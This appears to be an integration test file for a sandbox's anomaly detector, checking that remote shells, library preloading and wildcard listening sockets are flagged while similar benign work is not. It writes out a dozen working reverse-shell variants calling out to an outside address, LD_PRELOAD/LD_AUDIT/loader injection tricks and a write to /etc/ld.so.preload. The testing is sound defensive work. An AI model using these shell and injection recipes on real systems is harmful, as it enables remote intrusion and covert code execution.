#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Remote shells, preloaded libraries, and listening sockets: each way to do it is found, and similar benign work is
not."""

import json
import os
import pty
import subprocess

from api import SANDBOX, main
from broker import Broker, skip
from peers import Peers
from runner import check, until

CONFIG = """
pool: 2
templates:
  - name: default
    limits: {files: 8192}
    network_max: {mode: allowlist, outbound: ["93.184.216.0/24"]}
"""
ALLOW = {"mode": 2, "outbound": [{"cidr": "93.184.216.0/24"}]}

# The peer sends back what it receives: the line below is the remote input.
BEGIN = """
import array, ctypes, glob, os, pty, resource, select, socket, subprocess, sys, time
def connect(s=None):
    s = s or socket.socket()
    s.connect(("93.184.216.34", 80))
    s.send(b"echo hello; exit\\n")
    return s
def copy(master, s):
    while True:
        for x in select.select([master, s], [], [], 5)[0]:
            try: data = os.read(x, 1000)
            except OSError: data = b""
            if not data: return
            os.write(s if x == master else master, data)
def take_terminal(slave): [os.dup2(slave, i) for i in range(3)]
"""
CONNECTED = "s = connect()\n[os.dup2(s.fileno(), i) for i in range(3)]\n"

SHELLS = {
    "pty.spawn over stdio": CONNECTED + "pty.spawn('/bin/sh')",
    "by env and busybox": CONNECTED + "pty.spawn(['/usr/bin/env', 'busybox', 'sh'])",
    "script(1)": CONNECTED + "os.execv('/usr/bin/script', ['script', '-qc', '/bin/sh', '/dev/null'])",
    "a child copies, and connects late": """
master, slave = pty.openpty()
if os.fork() == 0:
    os.close(slave); time.sleep(0.3); s = connect(); copy(master, s.fileno()); os._exit(0)
os.close(master); take_terminal(slave); os.execv('/bin/sh', ['sh'])
""",
    "a high descriptor, an orphan": """
s = connect(); os.dup2(s.fileno(), 200); s.close()
pid, master = pty.fork()
if pid == 0: os.execv('/bin/sh', ['sh'])
if os.fork() == 0: copy(master, 200)
""",
    "a descriptor above 4096": """
s = connect(); resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192)); os.dup2(s.fileno(), 5000); s.close()
pid, master = pty.fork()
if pid == 0: os.execv('/bin/sh', ['sh'])
os.write(master, os.read(5000, 1000))
try:
    while True: os.write(5000, os.read(master, 1000))
except OSError: pass
""",
    "UDP": """
s = connect(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
pid, master = pty.fork()
if pid == 0: os.execv('/bin/sh', ['sh'])
copy(master, s.fileno())
""",
    "UDP without connect": """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(b"echo hello; exit\\n", ("93.184.216.34", 80))
pid, master = pty.fork()
if pid == 0: os.execv('/bin/sh', ['sh'])
os.read(master, 1) # the shell's prompt
os.write(master, s.recvfrom(1000)[0])
s.sendto(os.read(master, 1000), ("93.184.216.34", 80))
""",
    "UDP over IPv6, by sendmsg": """
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
pid, master = pty.fork()
if pid == 0: os.execv('/bin/sh', ['sh', '-c', 'echo hello; sleep 5'])
s.sendmsg([os.read(master, 1000)], [], 0, ("::ffff:93.184.216.34", 80))
""",
    "the other end is sent to its holder": """
a, b = socket.socketpair()
if os.fork() == 0:
    fds = array.array("i"); fds.frombytes(b.recvmsg(1, 100)[1][0][2][:4]); s = connect(); copy(fds[0], s.fileno()); os._exit(0)
pid, master = pty.fork()
if pid == 0: os.execv('/bin/sh', ['sh'])
a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [master]))]); os.close(master); os.waitpid(pid, 0)
""",
    "one socket, stderr elsewhere": "s = connect()\nsubprocess.run(['/bin/sh'], stdin=s, stdout=s, stderr=subprocess.DEVNULL)",
    "input from a socket that sends no more": """
a, b = connect(), connect()
a.setblocking(False)
try:
    while True: a.send(b"x" * 65536)  # so that the peer, which does not end before it has sent it back, stays
except BlockingIOError: a.setblocking(True)
a.shutdown(socket.SHUT_WR)
subprocess.run(['/bin/sh'], stdin=a, stdout=b, stderr=subprocess.DEVNULL)
""",
    "two sockets": "subprocess.run(['/bin/sh'], stdin=connect(), stdout=connect(), stderr=subprocess.STDOUT)",
}
NO_SHELLS = {
    "a terminal, and nobody outside": "pty.spawn(['/bin/sh', '-c', 'echo hello'])",
    "a terminal over loopback": """
l = socket.create_server(("127.0.0.1", 8080)); s = socket.create_connection(("127.0.0.1", 8080)); t = l.accept()[0]
s.send(b"exit\\n")
pid, master = pty.fork()
if pid == 0: os.execv('/bin/sh', ['sh'])
copy(master, t.fileno())
""",
    "a terminal, and datagrams over loopback": """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 0))
pid, master = pty.fork()
if pid == 0: os.execv('/bin/sh', ['sh', '-c', 'echo hello'])
s.sendto(os.read(master, 1000), s.getsockname()); os.write(1, s.recvfrom(1000)[0])
try: socket.getaddrinfo("nobody.example", 80)
except OSError: pass
""",
    "datagrams, and a terminal of another process": """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
go, gone = os.pipe()
if os.fork() == 0:
    os.read(go, 1); s.sendto(b"x", ("93.184.216.34", 80)); os._exit(0)
pty.spawn(['/bin/sh', '-c', 'echo hello']); os.write(gone, b"x"); os.wait()
""",
    "a program over pipes, and a connection": "s = connect()\nprint(subprocess.run(['/bin/sh', '-c', 'echo hello'], capture_output=True, stdin=subprocess.DEVNULL).stdout)",
    "what was received goes to a file": "s = connect()\ns.shutdown(1)\nsubprocess.run(['cat'], stdin=s, stdout=open('got', 'w'))",
}

LIBRARIES = BEGIN + """
lib = glob.glob("/lib/*-linux-gnu/libm.so.6")[0]
libc = glob.glob("/lib/*-linux-gnu/libc.so.6")[0]
loader = glob.glob(f"/lib*/ld-linux-{os.uname().machine.replace('_', '-')}.so.*")[0]
os.makedirs("d", exist_ok=True)
copy_of = lambda a, b: open(b, "wb").write(open(a, "rb").read()) and os.chmod(b, 0o755)
copy_of(lib, "own.so"); copy_of(libc, "d/libc.so.6"); copy_of("/bin/true", "true"); copy_of(lib, "d/libm.so.6")
run = lambda argv, **env: subprocess.run(argv, env={"PATH": "/usr/bin:/bin", **env}, capture_output=True)
"""
PRELOADS = {
    "LD_PRELOAD": "run(['true'], LD_PRELOAD=os.getcwd() + '/own.so')",
    "a symbolic link": "os.symlink('own.so', 'link'); run(['true'], LD_PRELOAD=os.getcwd() + '/link')",
    "a relative path, renamed": "os.rename('own.so', 'other.so'); run(['true'], LD_PRELOAD='./other.so')",
    "behind one of the host's": "run(['true'], LD_PRELOAD=lib + ' ' + os.getcwd() + '/own.so')",
    "a file without a name": "fd = os.memfd_create('x', 0); os.write(fd, open(lib, 'rb').read()); "
                             "subprocess.run(['true'], env={'PATH': '/bin', 'LD_PRELOAD': f'/proc/self/fd/{fd}'}, pass_fds=[fd])",
    "LD_AUDIT": "run(['true'], LD_AUDIT=os.getcwd() + '/own.so')",
    "LD_LIBRARY_PATH": "run(['true'], LD_LIBRARY_PATH='d')",
    "the loader's own option": "run([loader, '--preload', './own.so', '/bin/true'])",
    "the loader's path": "run([loader, '--library-path', 'd', '/bin/true'])",
    "many variables before it": "run(['true'], **{f'A{i}': 'x' for i in range(9000)}, LD_PRELOAD=os.getcwd() + '/own.so')",
    "a long variable before it": "run(['true'], A='x' * 100000, LD_PRELOAD=os.getcwd() + '/own.so')",
    "into a program of its own": "run(['./true'], LD_PRELOAD=os.getcwd() + '/own.so')",
}
NO_PRELOADS = {
    "one of the host's": "run(['/usr/bin/python3', '-c', 'import ctypes; ctypes.CDLL(\"./own.so\")'], LD_PRELOAD=lib)",
    "a path for what is loaded later": "run(['/usr/bin/python3', '-c', 'import ctypes; ctypes.CDLL(\"./own.so\")'], LD_LIBRARY_PATH='e')",
    "a program of its own with its library": "run(['./true'], LD_LIBRARY_PATH='d')",
    "ldd": "print(run(['ldd', './true']))",
    "a variable that begins alike": "run([loader, '/bin/true'], LD_LIBRARY_VERSION='d/libc.so.6 and more'); run([loader, './true'], LD_LIBRARY_VERSION='./true is one of its own')",
    "empty": "run(['./true'], LD_PRELOAD='', LD_LIBRARY_PATH='')",
    "a module": "import ctypes; ctypes.CDLL('./own.so')",
}

LISTENERS = {
    "0.0.0.0": "s = socket.create_server(('0.0.0.0', 8001))",
    "::": "s = socket.socket(socket.AF_INET6); s.bind(('::', 8002)); s.listen()",
    "without bind": "s = socket.socket(); s.listen()",
}
NO_LISTENERS = {
    "127.0.0.1": "s = socket.create_server(('127.0.0.1', 8004))",
    "::1": "s = socket.socket(socket.AF_INET6); s.bind(('::1', 8005)); s.listen()",
    "mapped": "s = socket.socket(socket.AF_INET6); s.bind(('::ffff:127.0.0.9', 8006)); s.listen()",
}


def findings(b, box, rule):
    code, all_ = b.json("anomalies", "--sandbox", box, "--rule", rule)
    check(code == 0, f"anomalies: {code}")
    return all_


def create(c):
    return c.unary(SANDBOX + "Create", {"network": ALLOW}).sandbox.id


def python(c, box, code):
    """A job and its id; it ends a little later, so that its findings are not about the sandbox as a whole."""
    job = c.stream("Start", {"sandbox_id": box, "command": {"args": ["/usr/bin/python3", "-c", code]}})
    c.until(job, lambda: job.id)
    return c.finish(job)


def each_way_is_found(b, c, rule, begin, ways, honest):
    box = create(c)
    for name, code in honest.items():
        job = python(c, box, f"{begin}\n{code}\ntime.sleep(0.2)")
        check(job.result.exit_code == 0, f"{name}: {job.output[-600:]}")
    check(findings(b, box, rule) == [], findings(b, box, rule))
    jobs = {name: python(c, box, begin + code + "\ntime.sleep(0.2)") for name, code in ways.items()}
    of = lambda job: [f for f in findings(b, box, rule) if f["process_id"] == job.id]
    missing = [(name, job.output[-300:]) for name, job in jobs.items() if not until_or_not(lambda: of(job))]
    check(not missing, missing)
    return box, findings(b, box, rule)


def until_or_not(condition):
    try:
        until(condition, "", 2)
        return True
    except AssertionError:
        return False


def the_kernels_part_is_there(b, c):
    if "bpf-watch: no" in b.log() or "bpf-syscalls: no" in b.log():
        b.stop()
        skip("the programs for telemetry cannot be loaded here")


def a_remote_shell_is_found(b, c):
    box, all_ = each_way_is_found(b, c, "remote-shell", BEGIN, SHELLS, NO_SHELLS)
    check(all(f["severity"] == "warning" and f["response"] == "alert" for f in all_), all_)
    of_terminal = [f for f in all_ if "terminal" in f["text"]]
    check(of_terminal and all(f["pid"] > 0 and "whose events were lost" not in f["text"] for f in of_terminal), all_)
    code, told = b.json("events", "--from", "1", "--kind", "remote_terminal")
    check(code == 0 and told and told[0]["terminal"]["shell"] and told[0]["terminal"]["shell_pid"] > 0, told)
    b.cli("rm", box)


def a_terminal_that_another_job_copies_is_found(b, c):
    for first, begins, copies in (
        ("the shell", "while os.path.samefile(f'/proc/{pid}/exe', '/proc/self/exe'): time.sleep(0.01)", ""),
        ("the copier", "", "open('copies', 'w')"),
    ):
        box = create(c)
        shell = c.stream("Start", {"sandbox_id": box, "command": {"args": ["/usr/bin/python3", "-c", BEGIN + f"""
pid, master = pty.fork()
if pid == 0:
    while {not begins} and not os.path.exists("copies"): time.sleep(0.01)
    os.execv('/bin/sh', ['sh'])
{begins}
l = socket.socket(socket.AF_UNIX); l.bind("s"); l.listen()
l.accept()[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [master]))]); os.waitpid(pid, 0)
"""]}})
        c.until(shell, lambda: shell.id)
        holder = python(c, box, BEGIN + f"""
u = socket.socket(socket.AF_UNIX)
while u.connect_ex("s"): time.sleep(0.05)
fds = array.array("i"); fds.frombytes(u.recvmsg(1, 100)[1][0][2][:4])
s = connect(); os.write(fds[0], s.recv(100)); {copies}
copy(fds[0], s.fileno()); time.sleep(0.2)
""")
        of_holder = lambda: any(f["process_id"] == holder.id for f in findings(b, box, "remote-shell"))
        until(of_holder, f"{first} is first; the copier said {holder.output}")
        b.cli("rm", box)


def a_terminal_of_exec_is_none(b, c):
    box = create(c)
    ours, theirs = pty.openpty()
    shell = b.popen("exec", "-it", box, "--", "/usr/bin/python3", "-c", BEGIN + "s = connect(); subprocess.run(['/bin/sh', '-c', 'tty'])",
                    stdin=theirs, stdout=theirs, stderr=subprocess.PIPE)
    os.close(theirs)
    said = b""
    while b"pts" not in said:
        said += os.read(ours, 1000)
    shell.communicate(timeout=60)
    check(shell.returncode == 0, shell.returncode)
    os.close(ours)
    check(findings(b, box, "remote-shell") == [], findings(b, box, "remote-shell"))
    b.cli("rm", box)


def a_library_of_its_own_in_a_program_is_found(b, c):
    box, all_ = each_way_is_found(b, c, "preloaded-library", LIBRARIES, PRELOADS, NO_PRELOADS)
    check(all(f["pid"] > 0 and "was put into a program" in f["text"] for f in all_), all_)
    check(all(f["severity"] == "notice" and f["response"] == "log" for f in all_), all_)
    until(lambda: any(f["response"] == "alert" for f in findings(b, box, "preloaded-programs")), "several programs of the host are an alert")
    job = python(c, box, "try: open('/etc/ld.so.preload', 'w').write('x')\nexcept OSError as e: print(e)\nimport time; time.sleep(0.2)")
    until(lambda: any("ld.so.preload" in f["text"] for f in findings(b, box, "sensitive-path")), f"found: {job.output}")
    b.cli("rm", box)


def a_socket_that_listens_on_all_addresses_is_noted(b, c):
    box, all_ = each_way_is_found(b, c, "open-listener", BEGIN, LISTENERS, NO_LISTENERS)
    check(all(f["severity"] == "info" and f["response"] == "log" for f in all_), all_)
    check("0.0.0.0:8001" in json.dumps(all_) and "[::]:8002" in json.dumps(all_), all_)
    code, told = b.json("events", "--from", "1", "--kind", "listen")
    check(code == 0 and {"0.0.0.0:8001", "[::]:8002"} <= {e["flow"]["destination"] for e in told}, told)
    check(all(e["comm"] == "python3" and e["pid"] > 0 and e["process_id"] for e in told), told)
    b.cli("rm", box)


TESTS = [the_kernels_part_is_there, a_remote_shell_is_found, a_terminal_that_another_job_copies_is_found,
         a_terminal_of_exec_is_none, a_library_of_its_own_in_a_program_is_found, a_socket_that_listens_on_all_addresses_is_noted]


if __name__ == "__main__":
    with Peers():
        main(Broker(config="socket: {mode: 0666}\n" + CONFIG), TESTS)
